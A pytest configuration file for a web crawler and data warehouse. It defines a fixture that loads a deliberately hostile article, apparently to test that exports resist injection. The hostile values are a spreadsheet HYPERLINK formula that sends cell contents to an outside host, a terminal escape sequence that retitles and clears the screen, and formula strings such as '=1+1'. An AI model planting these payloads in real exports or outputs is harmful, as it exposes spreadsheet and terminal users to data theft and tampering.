"""A site on loopback that does as a test tells it, and one warehouse with hostile texts in it."""

from collections.abc import Iterator

import pytest

from crawl.conftest import FakeClock, Site, clock, describe, serve, settings, site
from warehouse.conftest import Built, a_warehouse
from warehouse.makers import Draft

__all__ = ["FakeClock", "Site", "clock", "describe", "serve", "settings", "site"]

FORMULA = '=HYPERLINK("http://x.example.vn/?"&A1,"Thu ngân sách")'
ESCAPE = "\x1b]0;pwned\x07\x1b[2J"


@pytest.fixture(scope="session")
def released(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    """A release whose articles were written to harm who reads them; tests must not load into it."""
    warehouse = a_warehouse(tmp_path_factory.mktemp("released"))
    hostile = Draft("https://backan.vn/hostile", title=FORMULA, text=f"{ESCAPE} @SUM(A1)\n")
    hostile.says("budget_revenue", "9130000000", "2020").says("economic_growth", "-3.5", "2020", unit_measure="percent")
    hostile.says("budget_revenue", "8000000000", "2019", breakdown=(("nguồn", "=1+1"),))
    warehouse.load([hostile.item()], run_id="hostile")
    yield Built(warehouse, warehouse.finish(run_id="hostile"))
